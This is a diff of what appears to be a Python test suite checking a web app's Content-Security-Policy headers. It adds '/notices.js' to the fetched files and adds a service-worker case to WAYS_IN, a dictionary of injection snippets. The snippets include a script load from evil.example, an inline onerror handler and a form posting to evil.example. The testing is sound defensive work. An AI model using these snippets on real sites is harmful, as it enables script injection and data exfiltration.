@@ -53,7 +53,8 @@ async def test_each_file_goes_out_with_its_headers(studio_url: str) -> None:
     async with httpx.AsyncClient(base_url=studio_url, timeout=60) as anybody:
         page = await anybody.get("/", headers={"Accept-Encoding": "br"})
         named = re.findall(r'(?:src|href)="(/(?:assets|ui)/[^"]+)"', page.text)
-        files = {path: await anybody.get(path) for path in (named[0], named[-1], "/icons/icon.svg")}
+        paths = (named[0], named[-1], "/icons/icon.svg", "/notices.js")
+        files = {path: await anybody.get(path) for path in paths}
     # Which origins there are differs from one machine to another; tests/unit/studio has the rest.
     policy = page.headers["Content-Security-Policy"]
     assert "unsafe-inline" not in policy
@@ -77,6 +78,8 @@ WAYS_IN = {
     "document.createElement('script'), { src: 'https://evil.example/x.js' }))",
     "a handler in HTML": "document.body.insertAdjacentHTML('beforeend', "
     "'<img src=x: onerror=\"window.harmed = true\">')",
+    "another service worker": "navigator.serviceWorker.register("
+    "'/ui/painter/png.js', { type: 'module' }).then(() => { window.harmed = true; })",
     "a form that leaves": "document.body.insertAdjacentHTML('beforeend', "
     "'<form action=https://evil.example method=post></form>'), document.forms[0].submit()",
 }
